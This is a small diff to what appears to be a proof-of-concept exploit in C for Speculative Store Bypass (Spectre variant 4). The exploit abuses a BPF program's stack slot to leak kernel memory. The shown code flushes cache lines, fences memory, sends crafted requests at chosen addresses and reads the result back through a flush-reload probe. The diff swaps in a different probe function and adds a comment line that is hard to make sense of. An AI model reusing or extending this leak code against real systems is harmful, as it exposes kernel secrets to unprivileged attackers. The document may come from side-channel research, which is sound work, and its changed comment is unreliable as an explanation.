@@ -2,7 +2,8 @@
  * Speculative store bypass (Horn, 2018; "variant 4") in the kernel: a slot on the stack of a BPF
  * program holds what the request says until a pointer is stored there. The address of that store
  * waits for a flushed line, so the load after it may be executed first and take the request's value
- * for the pointer. Harmless requests teach the processor that the load need not wait.
+ * for the pointer. Harmless requests teach the processor that the load need not wait. When it is
+ * repeated, it reads a zero of the table, which is sent as well.
  */
 #include "attack.h"
 
@@ -35,7 +36,7 @@ static int sample(int index)
 	flush(array + SHARED_LIMIT);
 	memory_fence();
 	request(options.address + index, 0);
-	return reload_probe(probe);
+	return reload_probe_beside(probe, 0);
 }
 
 int main(int argc, char **argv)
